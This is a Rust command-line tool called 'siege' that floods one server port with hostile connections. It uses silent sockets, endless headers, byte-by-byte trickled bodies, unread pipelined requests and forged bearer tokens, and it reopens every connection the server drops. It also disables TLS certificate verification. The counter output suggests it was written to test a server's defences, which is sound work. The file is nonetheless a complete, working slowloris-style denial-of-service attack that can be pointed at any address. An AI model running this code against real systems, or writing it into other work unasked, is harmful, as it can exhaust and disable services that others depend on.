//! Hostile traffic against one port: `siege <http|https> <ip:port> <path> <connections> <seconds> [<own ip>]`.
//!
//! A connection that the server closes is opened again, so the number stays constant as far as the server lets it. There are five kinds in
//! equal parts: silence, a head that never ends after a request that is answered, a body of a byte now and then, requests whose responses
//! nobody reads, and requests with tampered tokens, each over a connection of its own. The last line is `{"opened":…,"closed":…}`: how
//! many connections were opened, and how many of them the server closed.

#![allow(clippy::print_stdout)]

use std::{
    env,
    error::Error,
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use rustls::{
    ClientConfig, DigitallySignedStruct, SignatureScheme,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    crypto::ring,
    pki_types::{CertificateDer, ServerName, UnixTime},
};
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::TcpSocket,
    task::JoinSet,
    time::{Instant, interval, sleep, timeout, timeout_at},
};
use tokio_rustls::TlsConnector;

/// How long the server may take to accept a connection.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

/// Interval between two bytes of a slow body.
const TRICKLE: Duration = Duration::from_millis(500);

/// Pause after each connection, so that the attacker does not use the whole machine.
const PAUSE: Duration = Duration::from_millis(100);

/// A token of the right form: header, claims and signature of nobody.
const TAMPERED: &str = "eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJhdWQiOlsiam9id2FyZGVuLXJlYXBlciJdfQ.c2lnbmF0dXJl";

static OPENED: AtomicU64 = AtomicU64::new(0);
static CLOSED: AtomicU64 = AtomicU64::new(0);

type Result<T> = std::result::Result<T, Box<dyn Error + Send + Sync>>;

/// A stream of either kind.
trait Stream: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Stream for T {}

/// What is attacked.
#[derive(Clone)]
struct Target {
    address: SocketAddr,
    /// The address that connections come from.
    own: Option<IpAddr>,
    path: String,
    tls: Option<TlsConnector>,
}

#[tokio::main]
async fn main() -> Result<()> {
    let arguments: Vec<String> = env::args().skip(1).collect();
    let [kind, address, path, connections, seconds, own @ ..] = &arguments[..] else {
        return Err("usage: siege <http|https> <ip:port> <path> <connections> <seconds> [<own ip>]".into());
    };
    let own = own.first().map(|own| own.parse()).transpose()?;
    let (address, path) = (address.parse()?, path.clone());
    let target = Target { address, own, path, tls: (kind == "https").then(unverified).transpose()? };
    let end = Instant::now() + Duration::from_secs(seconds.parse()?);
    let mut running = JoinSet::new();
    for index in 0..connections.parse::<u32>()? {
        let target = target.clone();
        running.spawn(async move {
            let _ = timeout_at(end, attack(&target, index)).await;
        });
    }
    while running.join_next().await.is_some() {}
    let [opened, closed] = [&OPENED, &CLOSED].map(|counter| counter.load(Ordering::Relaxed));
    println!(r#"{{"opened":{opened},"closed":{closed}}}"#);
    Ok(())
}

/// One connection after the other, for ever.
async fn attack(target: &Target, index: u32) {
    loop {
        let one = async {
            let stream = timeout(CONNECT_TIMEOUT, target.connect(index)).await??;
            OPENED.fetch_add(1, Ordering::Relaxed);
            target.harm(stream, index).await
        };
        // Any error is that of a connection that the server has closed.
        if one.await.is_err() {
            CLOSED.fetch_add(1, Ordering::Relaxed);
        }
        sleep(PAUSE).await;
    }
}

impl Target {
    /// A connection; of the silent ones, half do not even begin the TLS handshake.
    async fn connect(&self, index: u32) -> Result<Box<dyn Stream>> {
        let socket = if self.address.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
        if let Some(own) = self.own {
            socket.bind(SocketAddr::new(own, 0))?;
        }
        let stream = socket.connect(self.address).await?;
        match &self.tls {
            Some(tls) if !index.is_multiple_of(10) => {
                let name = ServerName::try_from("siege.invalid")?;
                Ok(Box::new(tls.connect(name, stream).await?))
            }
            _ => Ok(Box::new(stream)),
        }
    }

    /// Holds the connection until the server closes it, which is an error.
    async fn harm(&self, mut stream: Box<dyn Stream>, index: u32) -> Result<()> {
        match index % 5 {
            0 => {}
            1 => {
                stream.write_all(self.request("GET", "").as_bytes()).await?;
                let head = self.request("GET", &format!("x: {}", "a".repeat(60_000)));
                stream.write_all(head.trim_end().as_bytes()).await?;
            }
            2 => {
                let head = self.request("POST", &format!("content-length: 1000000\r\n{}", bearer()));
                stream.write_all(head.as_bytes()).await?;
                let mut ticks = interval(TRICKLE);
                let mut answer = [0; 1024];
                loop {
                    tokio::select! {
                        read = stream.read(&mut answer) => if read? == 0 { return Err("closed".into()) },
                        _ = ticks.tick() => {
                            stream.write_all(b"x").await?;
                            stream.flush().await?;
                        }
                    }
                }
            }
            3 => {
                let request = self.request("GET", "");
                loop {
                    stream.write_all(request.as_bytes()).await?;
                }
            }
            _ => {
                let request = self.request("POST", &format!("content-length: 0\r\n{}", bearer()));
                stream.write_all(request.as_bytes()).await?;
            }
        }
        stream.flush().await?;
        let mut answer = [0; 4096];
        while stream.read(&mut answer).await? > 0 {}
        Err("closed".into())
    }

    fn request(&self, method: &str, headers: &str) -> String {
        let separator = if headers.is_empty() || headers.ends_with("\r\n") { "" } else { "\r\n" };
        format!("{method} {} HTTP/1.1\r\nhost: siege\r\n{headers}{separator}\r\n", self.path)
    }
}

fn bearer() -> String {
    format!("authorization: Bearer {TAMPERED}\r\n")
}

/// TLS to whatever answers: an attacker does not mind whom it harms.
fn unverified() -> Result<TlsConnector> {
    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Anybody))
        .with_no_client_auth();
    Ok(TlsConnector::from(Arc::new(config)))
}

#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> std::result::Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> std::result::Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> std::result::Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
